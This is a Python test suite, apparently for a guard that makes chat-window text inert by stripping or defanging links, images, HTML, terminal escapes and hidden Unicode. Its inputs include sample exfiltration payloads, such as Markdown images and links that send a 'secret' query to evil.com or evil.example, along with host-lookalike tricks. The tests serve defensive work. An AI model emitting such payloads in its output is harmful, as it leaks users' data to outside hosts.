"""What a chat window is shown makes no request and carries nothing out."""

from __future__ import annotations

import re
from typing import Final

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ringwall.deployment.disarm import Disarm
from ringwall.deployment.guard import Guard
from ringwall.deployment.guard_contract import GuardContract

DOCS: Final = "https://docs.example.org/a?b=1"
PIECES: Final = (
    *("![", "[", "]", "](", "][", "]:", ")", "<", ">", "<a href=", "<img src=", "/", "//", "\\", '"', "'", "`", "*"),
    *("https:", "https://", "HTTP://", "www.", "data:", "javascript:", "mailto:", "evil.example", "evil.com", "x"),
    *(
        "?q=",
        "#",
        "&#58;",
        "&colon;",
        "\t",
        "\n",
        " ",
        "\r",
        "\x1b[31m",
        "\x07",
        "\u200b",
        "\u200d",
        "\u202e",
        "\ufe0f",
    ),
    *("\U000e0041", "夜", "é", "😀", "](https://evil.com/?q=s)", "\n[x]: //evil.com/s\n", "[x]", "a.b.evil.com", DOCS),
)
TEXTS: Final = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)
UNSEEN: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]"
)
COMMONMARK: Final = MarkdownIt("commonmark", {"html": True})


def requests_of(text: str) -> list[str]:
    """What a CommonMark renderer with raw HTML would link to, load, or hand on as a tag."""
    return [
        str(token.attrs.get("href") or token.attrs.get("src") or token.content)
        for block in COMMONMARK.parse(text)
        for token in (block, *(block.children or ()))
        if token.type in ("link_open", "image", "html_inline", "html_block")
    ]


class TestDisarm(GuardContract):
    words = PIECES

    @pytest.fixture
    def guard(self) -> Guard:
        return Disarm()


class TestDisarmWithHosts(GuardContract):
    words = PIECES

    @pytest.fixture
    def guard(self) -> Guard:
        return Disarm(hosts=["docs.example.org"], always=True)


@given(TEXTS)
@example("[x]\n\n[x]: https://evil.com/s")
@example("[![x](//evil.com/i.png)](//evil.com/s)")
def test_no_renderer_finds_a_link_an_image_or_a_tag(text: str) -> None:
    assert requests_of(Disarm().disarmed(text)) == []


@given(TEXTS)
@example("www.data:![")
def test_nothing_that_a_window_would_link_by_itself_is_left(text: str) -> None:
    inert = Disarm().disarmed(text)
    assert not re.search(r"[a-z]://|www\.[a-z]|evil\.com/|evil\.com\?", inert, re.IGNORECASE)
    assert not UNSEEN.search(inert)


@given(TEXTS)
def test_it_touches_whatever_it_would_change(text: str) -> None:
    if Disarm().disarmed(text) != text:
        assert Disarm().touches(text)


@given(TEXTS, st.lists(st.sampled_from(["s", "secret", "%20", "/", "?x=", "&"]), min_size=1).map("".join))
def test_only_an_address_that_somebody_else_said_stays_alive(text: str, more: str) -> None:
    disarm = Disarm(hosts=["docs.example.org"])
    assert DOCS in disarm.disarmed(DOCS, [f"see {DOCS}."])
    for made_up in (f"{DOCS}{more}", f"[{text}]({DOCS}{more})"):
        assert f"{DOCS}{more}" not in disarm.disarmed(made_up, [f"see {DOCS}."])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![logo](https://evil.example/a.png?q=secret)", "![logo] (https[:]//evil[.]example/a[.]png?…)"),
        ("(see https://evil.example/a).", "(see https[:]//evil[.]example/a)."),
        ("evil.com:8080/secret", "evil[.]com[:]8080/secret"),
        ("secret.evil.com", "secret[.]evil[.]com"),
        ("http://user@evil.com", "http[:]//user…"),
        ("<b>bold</b>", "< b>bold< /b>"),
        ("x: list[int]: a[0](1)", "x: list[int] : a[0] (1)"),
        ("data:text/html,x", "data: text/html,x"),
        ("\x1b]8;;https://evil.com\x07go", "]8;;https[:]//evil[.]com" + "go"),
    ],
)
def test_what_is_taken_apart_stays_readable(text: str, shown: str) -> None:
    assert Disarm().disarmed(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Lucia opens at 7.30 (e.g. on Fridays); 2 < 3, src/main.py:12, Node.js, data: none, Bo@7",
        "می‌خواهم 👨‍👩‍👧 ❤️ 夜空 **bold** `x = a[0]`",
        "| a | b |\n|---|---|\n- one\n  - two [1]",
    ],
)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert Disarm().disarmed(text) == text


def test_a_host_below_an_allowed_one_is_allowed_and_a_lookalike_is_not() -> None:
    disarm = Disarm(hosts=["*.example.org"])
    for address, alive in {
        "https://a.example.org/x": True,
        "https://example.org.evil.com/x": False,
        "https://notexample.org/x": False,
        "https://a.example.org@evil.com/x": False,
        "https://evil.com#.example.org/x": False,
    }.items():
        assert (disarm.disarmed(address, [address]) == address) is alive
